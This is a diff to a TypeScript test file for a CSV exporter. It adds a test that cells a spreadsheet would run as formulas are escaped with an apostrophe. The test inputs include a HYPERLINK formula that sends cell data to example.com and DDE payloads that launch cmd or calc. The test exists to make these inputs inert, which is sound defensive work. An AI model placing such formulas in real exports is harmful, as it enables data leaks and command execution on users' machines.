@@ -5,7 +5,7 @@
 import { Readable } from 'node:stream';
 import ExcelJS from 'exceljs';
 import { describe, expect, it } from 'vitest';
-import { csvOf, decodeText, delimitedRows } from '../../lib/util/delimited';
+import { csvOf, decodeText, delimitedRows, unescapedCell } from '../../lib/util/delimited';
 import { seededRandom } from '../helpers/random';
 
 const rows = (text: string, maxRows = 100) => delimitedRows(text, maxRows).rows;
@@ -158,6 +158,24 @@ describe('csv written', () => {
     ).toBe('a,"b,c","say ""hi"""\n1,,ñ\n" x","y\rz",-0.5');
   });
 
+  it('with the cells a spreadsheet would run as formulas made inert (OWASP): quoted, after an apostrophe; numbers as they are', () => {
+    const hostile = ['=HYPERLINK("https://example.com/?x="&A1,"ver")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'x'!A0"];
+    const more = ['-2+3+cmd|x!A0', '\t=1+1', '\r=1+1'];
+    const plain = ['-60.5712345', '+3', '-1e-7', 'Lote = norte', 'a@b'];
+    const text = csvOf([
+      [...hostile, ...more],
+      [...plain, -60.5],
+    ]).toString('utf8');
+    const [first, second] = text.split('\n');
+    expect(first).toBe(
+      '"\'=HYPERLINK(""https://example.com/?x=""&A1,""ver"")","\'+cmd|\' /C calc\'!A0","\'@SUM(1+1)*cmd|\'x\'!A0",' +
+        '"\'-2+3+cmd|x!A0","\'\t=1+1","\'\r=1+1"',
+    );
+    expect(second).toBe('-60.5712345,+3,-1e-7,Lote = norte,a@b,-60.5');
+    // read back, the apostrophe is what the export added
+    expect(delimitedRows(text, 10).rows[0]!.map(unescapedCell)).toEqual([...hostile, ...more]);
+  });
+
   it("as exceljs's csv reader reads it back, cell for cell", async () => {
     const written = [
       ['Service_Spot_ID', 'Fósforo [ppm]', 'nota'],
@@ -184,7 +202,8 @@ describe('csv written and read back', () => {
           Array.from({ length: columns }, (_, c) => (c === 0 ? `id${r}` : cell())),
         ),
       ];
-      expect(delimitedRows(decodeText(csvOf(written)), 100).rows).toEqual(written);
+      const read = delimitedRows(decodeText(csvOf(written)), 100).rows;
+      expect(read.map((row) => row.map(unescapedCell))).toEqual(written);
     }
   });
 });
